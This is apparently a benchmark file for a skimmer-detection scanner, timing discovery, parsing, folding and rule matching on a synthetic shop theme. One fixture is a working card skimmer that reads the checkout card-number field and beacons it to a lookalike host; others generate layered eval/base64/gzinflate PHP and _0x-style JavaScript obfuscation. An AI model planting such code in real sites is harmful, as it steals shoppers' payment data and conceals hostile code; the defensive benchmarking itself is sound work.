//! Per-stage figures on a small synthetic theme: discovery, unit extraction, parse, fold+match,
//! report. `cargo bench --bench stages`; `cargo bench --no-run` only compiles it.

use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

use std::io::Write;

use base64::Engine;
use criterion::{criterion_group, criterion_main, Criterion, Throughput};

use skimlint::engine;
use skimlint::fold::{walk_preorder, Budget, Folder, Limits};
use skimlint::rules::load_builtin_and;
use skimlint::scan::{scan_paths, ScanOptions};
use skimlint::syntax::lang::Lang;
use skimlint::units::{self, classify};

/// A small theme: clean JavaScript and PHP, a template with scripts, and one skimmer.
fn synthetic_theme() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let js = "define(['jquery'], function ($) {\n  'use strict';\n  return function (config, el) {\n    $(el).on('click', function () { $.ajax({url: config.url, data: {q: $(el).val()}}); });\n  };\n});\n";
    let php = "<?php\nnamespace Acme\\Pay\\Model;\nclass Gateway {\n  public function capture($order) {\n    $amount = $order->getGrandTotal();\n    return $this->client->post('/capture', ['amount' => $amount]);\n  }\n}\n";
    let tpl = "<div class=\"checkout\">{{ title }}</div>\n<script>require(['Acme_Pay/js/view'], function (v) { v.init(); });</script>\n";
    let bad = "if(location.href.indexOf('checkout')>-1){var d=document.querySelector('[name=\"payment[cc_number]\"]').value;navigator.sendBeacon('https://cdn-jquery.top/c',btoa(d));}\nwindow['ev'+'al'](atob('YWxlcnQoMSk='));\n";
    for i in 0..20 {
        let sub = dir.path().join(format!("app/code/Acme/M{i}"));
        std::fs::create_dir_all(&sub).unwrap();
        std::fs::write(sub.join("view.js"), js.repeat(10)).unwrap();
        std::fs::write(sub.join("Gateway.php"), php).unwrap();
        std::fs::write(sub.join("form.phtml"), tpl.repeat(5)).unwrap();
    }
    std::fs::write(dir.path().join("app/code/Acme/M0/skim.js"), bad).unwrap();
    dir
}

fn stages(c: &mut Criterion) {
    let rules = load_builtin_and(&[]).unwrap();
    let theme = synthetic_theme();
    let root: PathBuf = theme.path().to_path_buf();
    let js_path = root.join("app/code/Acme/M0/view.js");
    let js = Arc::new(std::fs::read(&js_path).unwrap());
    let skim_path = root.join("app/code/Acme/M0/skim.js");
    let skim = Arc::new(std::fs::read(&skim_path).unwrap());

    c.bench_function("discovery (61 files)", |b| {
        b.iter(|| skimlint::input::discover::discover(std::slice::from_ref(&root)))
    });
    c.bench_function("unit extraction (phtml)", |b| {
        let p = root.join("app/code/Acme/M0/form.phtml");
        let bytes = Arc::new(std::fs::read(&p).unwrap());
        b.iter(|| units::extract(classify::classify(&p, &bytes), &bytes))
    });
    c.bench_function("parse (js, 10 modules)", |b| {
        b.iter(|| {
            skimlint::syntax::parse::parse(Lang::Javascript, &js, None, Duration::from_secs(5))
                .unwrap()
        })
    });
    c.bench_function("fold+match (clean js)", |b| {
        let u = units::extract(classify::classify(&js_path, &js), &js);
        b.iter(|| engine::scan_file(&u, &rules, &Budget::new(Limits::default())))
    });
    c.bench_function("fold+match (skimmer)", |b| {
        let u = units::extract(classify::classify(&skim_path, &skim), &skim);
        b.iter(|| engine::scan_file(&u, &rules, &Budget::new(Limits::default())))
    });
    let options = ScanOptions {
        threads: 1,
        ..Default::default()
    };
    let result = scan_paths(std::slice::from_ref(&root), &rules, &options);
    assert!(!result.findings.is_empty());
    c.bench_function("report (json)", |b| {
        b.iter(|| {
            let mut out = Vec::new();
            skimlint::report::json::write(&mut out, &result).unwrap();
            out
        })
    });
    c.bench_function("whole scan (synthetic theme, 1 thread)", |b| {
        b.iter(|| scan_paths(std::slice::from_ref(&root), &rules, &options))
    });
}

fn b64(b: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(b)
}

fn deflate(b: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(b).unwrap();
    e.finish().unwrap()
}

fn rot13(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            'a'..='m' | 'A'..='M' => (c as u8 + 13) as char,
            'n'..='z' | 'N'..='Z' => (c as u8 - 13) as char,
            _ => c,
        })
        .collect()
}

/// About 100 KB of obfuscated PHP: escaped and piecewise names, chr() chains, a table-driven
/// decoder over a 16 KB payload, three nested gzinflate/base64/str_rot13 wrappers, and plain
/// code between them.
fn obfuscated_php() -> Vec<u8> {
    let plain = "class Acme_Model_Order { public function total($o) { $t = 0; foreach ($o->getItems() as $i) { $t += $i->getPrice() * $i->getQty(); } return $t; } }\n";
    let mut inner = plain.repeat(40);
    for _ in 0..3 {
        let blob = rot13(&b64(&deflate(inner.as_bytes())));
        inner = format!(
            "$a = \"\\x67z\"; $a .= \"\\151nflate\"; $b = \"\\142ase64_\"; $b .= \"decode\"; @eval($a($b(str_rot13(\"{blob}\"))));\n"
        );
    }
    let mut out = String::from("<?php\n");
    out.push_str(&inner);
    // Table-driven decoder: a keyed map applied to every character, then base64.
    let payload = b64(plain.repeat(90).as_bytes());
    let swapped: String = payload
        .chars()
        .map(|c| match c {
            'A' => 'q',
            'q' => 'A',
            'e' => 'Z',
            'Z' => 'e',
            _ => c,
        })
        .collect();
    out.push_str("function t($s, $m) { $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o .= isset($m[$s[$i]]) ? $m[$s[$i]] : $s[$i]; } $d = \"base64_decode\"; return $d($o); }\n");
    let pieces: Vec<String> = swapped
        .as_bytes()
        .chunks(76)
        .map(|c| format!("'{}'", String::from_utf8_lossy(c)))
        .collect();
    out.push_str(&format!(
        "$p = {};\n$m = array('q' => 'A', 'A' => 'q', 'Z' => 'e', 'e' => 'Z');\neval(t($p, $m));\n",
        pieces.join(".\n")
    ));
    for i in 0..300 {
        out.push_str(&format!(
            "$n{i} = chr(115) . chr(121) . \"\\x73\" . \"te\" . 'm'; $k{i} = \"\\142\\x61se64_decode\"; echo $k{i}('aGVsbG8=');\n"
        ));
        out.push_str(plain);
    }
    out.into_bytes()
}

/// About 100 KB of obfuscated JavaScript: an `_0x` string array with a rotation, computed
/// members, fromCharCode, atob and concatenation, between ordinary modules.
fn obfuscated_js() -> Vec<u8> {
    let module = "define(['jquery'], function ($) { 'use strict'; return function (c, el) { $(el).on('click', function () { $.ajax({url: c.url, data: {q: $(el).val()}}); }); }; });\n";
    let mut out = String::from("var _0x1a2b=['\\x61\\x74\\x6f\\x62','\\x65\\x76\\x61\\x6c','\\x63\\x6f\\x6f\\x6b\\x69\\x65','\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e'];(function(a,b){var f=function(n){while(--n){a['push'](a['shift']());}};f(++b);}(_0x1a2b,0x2));var _0x3c4d=function(a,b){a=a-0x0;var c=_0x1a2b[a];return c;};\n");
    for i in 0..250 {
        out.push_str(&format!(
            "var s{i}=String.fromCharCode(104,101,108,108,111)+'{i}';window[_0x3c4d('0x1')];var u{i}=atob('aHR0cHM6Ly9leGFtcGxlLmNvbS8=')+s{i};document[_0x3c4d('0x0')];\n"
        ));
        out.push_str(module);
    }
    out.into_bytes()
}

/// What folding costs per byte of input: every call's callee name and every payload
/// candidate's value, on a tree parsed beforehand (parse and rule matching excluded); then the
/// whole file scan (parse, fold, nested layers, rules) for comparison.
fn fold_cost(c: &mut Criterion) {
    let rules = load_builtin_and(&[]).unwrap();
    let inputs = [
        ("php", Lang::Php, "obfuscated.php", obfuscated_php()),
        ("js", Lang::Javascript, "obfuscated.js", obfuscated_js()),
    ];
    let mut group = c.benchmark_group("fold per byte (obfuscated)");
    for (name, lang, file, src) in &inputs {
        group.throughput(Throughput::Bytes(src.len() as u64));
        let tree =
            skimlint::syntax::parse::parse(*lang, src, None, Duration::from_secs(5)).unwrap();
        group.bench_function(
            format!("fold only ({name}, {} KB)", src.len() / 1024),
            |b| {
                b.iter(|| {
                    let budget = Budget::new(Limits::default());
                    let folder = Folder::new(*lang, tree.root_node(), src, &budget);
                    let mut known = 0usize;
                    walk_preorder(tree.root_node(), |n| {
                        if matches!(n.kind(), "call_expression" | "function_call_expression")
                            && folder.callee(n).is_some()
                        {
                            known += 1;
                        }
                        true
                    });
                    for cand in folder.payload_candidates() {
                        if folder.value(cand.node).is_some() {
                            known += 1;
                        }
                    }
                    assert!(budget.hits().is_empty(), "{:?}", budget.hits());
                    known
                })
            },
        );
        let bytes = Arc::new(src.clone());
        let path = PathBuf::from(file);
        let u = units::extract(classify::classify(&path, &bytes), &bytes);
        group.bench_function(
            format!("fold+layers+match ({name}, {} KB)", src.len() / 1024),
            |b| b.iter(|| engine::scan_file(&u, &rules, &Budget::new(Limits::default()))),
        );
    }
    group.finish();
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(10).warm_up_time(Duration::from_millis(300)).measurement_time(Duration::from_secs(2));
    targets = stages, fold_cost
}
criterion_main!(benches);
